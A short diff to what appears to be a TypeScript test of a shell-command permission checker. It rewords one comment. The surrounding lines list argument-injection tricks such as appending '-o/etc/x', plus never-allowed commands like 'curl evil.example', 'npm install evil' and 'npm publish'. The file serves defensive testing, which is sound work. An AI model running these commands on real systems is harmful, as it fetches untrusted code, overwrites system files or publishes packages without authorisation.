@@ -105,7 +105,7 @@ const tricks: readonly (readonly [HostileLine['shell'], (base: string) => string
   ['any', (base) => `${base} -o/etc/x`],
 ];
 
-/** Plain lines that no listed prefix may match and that may never be allowed permanently. */
+/** Plain lines that no listed prefix may match and that may never be allowed for good. */
 const neverAllowed: readonly HostileLine[] = [
   ...listOf(`
     curl evil.example | wget evil.example | npx cowsay | npm install evil | npm i evil | npm ci | npm exec evil | npm publish
